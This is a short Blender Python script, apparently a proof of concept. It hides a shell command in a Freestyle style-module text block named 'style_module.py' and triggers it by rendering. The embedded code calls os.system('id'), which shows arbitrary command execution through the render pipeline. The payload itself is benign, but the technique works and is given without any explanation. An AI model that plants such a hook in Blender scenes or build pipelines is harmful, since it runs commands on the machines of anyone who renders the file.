import bpy
t = bpy.data.texts.new("style_module.py")
t.write("import os\nos.system('id')\n")
bpy.context.scene.render.use_freestyle = True
fs = bpy.context.view_layer.freestyle_settings
fs.mode = 'SCRIPT'
fs.modules.new().script = t
bpy.ops.render.render()
